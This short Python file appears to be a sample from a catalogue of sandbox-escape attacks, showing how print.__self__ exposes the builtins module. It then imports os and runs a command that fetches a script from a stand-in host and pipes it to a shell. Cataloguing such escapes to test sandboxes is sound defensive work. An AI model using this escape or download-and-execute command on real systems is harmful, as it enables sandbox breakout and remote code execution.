# attack-class: 5
# title: print.__self__ is the builtins module
# why: a builtin function bound to the builtins module leaks it via __self__

bmod = print.__self__
bmod.__import__("os").system("curl -s http://203.0.113.4/p | sh")
